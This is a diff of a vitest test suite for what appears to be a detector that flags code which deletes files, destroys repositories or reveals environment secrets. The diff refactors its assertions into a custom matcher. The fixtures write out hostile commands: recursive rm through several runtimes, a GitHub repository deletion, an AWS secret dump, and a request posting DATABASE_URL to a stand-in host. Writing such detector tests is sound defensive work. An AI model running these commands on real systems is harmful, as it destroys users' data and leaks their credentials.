@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { fed, node, python, tells } from './fed.js';
-import { includesLine, told } from './told.js';
+import { fed, node, python } from './fed.js';
+import './told.js';
 
 describe('what code destroys by the library of a service', () => {
   it.each([
@@ -31,8 +31,7 @@ describe('what code destroys by the library of a service', () => {
     [python("from github import Github\nGithub(t).get_repo('a/b').delete()"), 'destroy repository:delete'],
     [python("import boto3\nprint(boto3.client('secretsmanager').get_secret_value(SecretId='x'))"), 'reveal-environment credential:secret'],
   ])('%s', async (command, expected) => {
-    const lines = await told(command);
-    expect({ lines, has: includesLine(lines, expected) }).toEqual({ lines, has: true });
+    await expect(command).toTell(expected);
   });
 
   it.each([
@@ -56,7 +55,7 @@ describe('what code destroys by the library of a service', () => {
     node("const m = new Map();\nm.delete('a');\nconst app = { drop() {} };\napp.drop();"),
     node("const re = /x/;\nconst s = 'DROPS';\nre.exec(s);"),
   ])('and nothing by %s', async (command) => {
-    expect((await told(command)).filter((line) => /^(?:destroy|reveal-environment)/.test(line))).toEqual([]);
+    await expect(command).not.toTell(/^(?:destroy|reveal-environment)/);
   });
 });
 
@@ -76,14 +75,14 @@ describe('a function that another function calls', () => {
     node("const fs = require('fs');\nfs.rmSync.apply(null, ['a', { recursive: true }]);"),
     node("const rm = require('fs').rmSync.bind(null);\nrm('a', { recursive: true });"),
     node("const run = require('util').promisify(require('child_process').exec);\nrun('rm -rf a');"),
-  ])('%s', async (command) => expect(await told(command)).toContain('delete -r /home/u/proj/a'));
+  ])('%s', async (command) => await expect(command).toTell('delete -r /home/u/proj/a'));
 
   it.each([
     python("import shutil\nprint(list(map(shutil.which, ['git', 'node'])))"),
     python("import shutil, unittest.mock as m\nwith m.patch('shutil.rmtree'):\n    pass"),
     node("const fs = require('fs');\n['a'].forEach(fs.existsSync);"),
     node("const fs = require('fs');\nconst spies = [vi.spyOn(fs, 'rmSync')];\nconsole.log(spies);"),
-  ])('and not %s', async (command) => expect((await told(command)).filter((line) => line.startsWith('delete'))).toEqual([]));
+  ])('and not %s', async (command) => await expect(command).not.toTell(/^delete/));
 });
 
 describe('the words of a program that code starts', () => {
@@ -104,39 +103,38 @@ describe('the words of a program that code starts', () => {
     `deno eval "new Deno.Command('rm', { args: ['-rf', 'a'] }).spawn()"`,
     `bun -e "Bun.spawnSync({ cmd: ['rm', '-rf', 'a'] })"`,
     'bun -e \'const d = "a"; await Bun.$`rm -rf ${d}`\'',
-  ])('%s', async (command) => expect(await told(command)).toContain('delete -r /home/u/proj/a'));
+  ])('%s', async (command) => await expect(command).toTell('delete -r /home/u/proj/a'));
 
   it.each([
     python("import subprocess\ncmd = ['git', 'status']\nsubprocess.run(cmd, check=True)"),
     python("import subprocess\nSTEPS = [['npm', 'ci'], ['npm', 'test']]\nfor step in STEPS:\n    subprocess.run(step)"),
     python("import subprocess, shlex\nsubprocess.run(shlex.split('ruff check src'))"),
-  ])('are known in %s', async (command) => expect(await told(command)).not.toContain('execute ?'));
+  ])('are known in %s', async (command) => await expect(command).not.toTell('execute ?'));
 });
 
 describe('options that code takes', () => {
   const code = (text: string): string => `import argparse, shutil\nap = argparse.ArgumentParser()\nap.add_argument('--out-dir', default='build')\nargs = ap.parse_args(${text})\nshutil.rmtree(args.out_dir)`;
 
   it('are what the command says, else what they are unless told', async () => {
-    expect(await told(python(code('')))).toContain('delete -r /home/u/proj/build');
-    expect(await told(fed('python3 - --out-dir /home/u', code('')))).toContain('delete -r /home/u');
-    expect(await told(fed('python3 - --out-dir=/home/u', code('')))).toContain('delete -r /home/u');
+    await expect(python(code(''))).toTell('delete -r /home/u/proj/build');
+    await expect(fed('python3 - --out-dir /home/u', code(''))).toTell('delete -r /home/u');
+    await expect(fed('python3 - --out-dir=/home/u', code(''))).toTell('delete -r /home/u');
   });
 });
 
 describe('a variable by which code opens a connection', () => {
-  const reveals = (command: string): Promise<boolean> => tells(command, 'reveal-environment');
 
   it.each([
     python("import os, psycopg2\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\nprint(conn.closed)"),
     python("import os\nengine = create_engine(os.getenv('DATABASE_URL'))"),
     node("const { Client } = require('pg');\nconst c = new Client(process.env.DATABASE_URL);\nc.connect();"),
     `ruby -e 'PG.connect(ENV["DATABASE_URL"])'`,
-  ])('is not shown by %s', async (command) => expect(await reveals(command)).toBe(false));
+  ])('is not shown by %s', async (command) => await expect(command).not.toTell(/^reveal-environment/));
 
   it.each([
     python("import os\nprint(os.environ['DATABASE_URL'])"),
     python("import os, psycopg2\nurl = os.environ['DATABASE_URL']\npsycopg2.connect(url)\nprint(url)"),
     python("import os, requests\nrequests.post('https://x.test', data=os.environ['DATABASE_URL'])"),
     node("reconnect(process.env.DATABASE_URL + process.env.TOKEN);"),
-  ])('and may be by %s', async (command) => expect(await reveals(command)).toBe(true));
+  ])('and may be by %s', async (command) => await expect(command).toTell(/^reveal-environment/));
 });
